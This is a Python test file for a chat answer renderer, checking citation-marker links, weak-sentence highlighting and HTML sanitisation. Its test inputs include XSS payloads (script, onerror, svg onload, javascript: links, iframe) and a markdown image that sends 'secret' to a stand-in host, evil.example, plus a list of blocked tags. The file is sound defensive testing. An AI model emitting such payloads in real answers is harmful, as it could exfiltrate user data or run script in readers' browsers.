"""Markdown of answers: markers become links, and nothing harmful gets through."""

from __future__ import annotations

import pytest

from chat.messages.rendering import render_answer


def test_markers_with_a_source_become_links() -> None:
    html = render_answer("Ten [1][2], **not [3]**.", markers={1, 2})
    assert html.count('class="citation"') == 2
    assert 'data-marker="1"' in html
    assert "not [3]" in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<svg/onload=alert(1)>",
        '[a](https://ok.example "x" onclick=alert(1))',
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src=https://evil.example></iframe>",
    ],
)
def test_nothing_harmful_gets_through(text: str) -> None:
    html = render_answer(text, markers={1})
    for tag in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        'href="javascript',
        'href="data',
        "<a onclick",
        ' onclick="',
    ):
        assert tag not in html


@pytest.mark.parametrize(
    ("text", "weak", "html"),
    [
        ("It is 5 [1]. Dogs may enter [1].", "Dogs may enter [1].", ". <mark>Dogs may enter</mark>&nbsp;<a"),
        ("A **may** b.", "A **may** b.", "<mark>A</mark> <strong><mark>may</mark></strong> <mark>b.</mark>"),
        ("- a\n- Run `make all`", "Run `make all`", "<li><mark>Run</mark> <mark><code>make all</code></mark></li>"),
        ("狗可以进。猫不可以。", "猫不可以。", "狗可以进。<mark>猫不可以。</mark>"),
        ("It is 5.", "Something else.", "<p>It is 5.</p>"),
    ],
)  # fmt: skip
def test_weak_sentences_are_marked_whatever_stands_inside_them(
    text: str, weak: str, html: str
) -> None:
    assert html in render_answer(text, markers={1}, weak=[weak])
